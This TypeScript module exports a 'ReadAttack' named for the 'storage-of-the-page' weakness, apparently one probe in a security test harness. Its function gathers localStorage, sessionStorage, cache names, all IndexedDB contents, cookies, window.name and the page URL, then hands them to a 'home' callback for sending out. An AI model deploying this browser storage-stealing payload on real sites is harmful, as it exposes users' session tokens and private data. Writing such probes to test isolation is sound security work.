/** Reads everything that is stored under its origin. */
import type { ReadAttack } from '../attack.ts';

export const readsStorage: ReadAttack = {
  weakness: 'storage-of-the-page',
  grab: async ({ home }) => {
    const stored = [localStorage, sessionStorage].flatMap((area) => Object.entries(area));
    const caches = await (window.caches?.keys() ?? []);
    const databases = await Promise.all(
      (await indexedDB.databases()).map(
        ({ name = '' }) =>
          new Promise((resolve) => {
            const opening = indexedDB.open(name);
            opening.onerror = () => resolve(name);
            opening.onsuccess = () => {
              const { result } = opening;
              const stores = [...result.objectStoreNames];
              if (stores.length === 0) return resolve(name);
              const step = result.transaction(stores);
              const contents = stores.map((store) => step.objectStore(store).getAll());
              step.oncomplete = () => resolve([name, contents.map((one) => one.result)]);
            };
          }),
      ),
    );
    await home([stored, caches, databases, document.cookie, window.name, document.title, location.href, history.state]);
  },
};
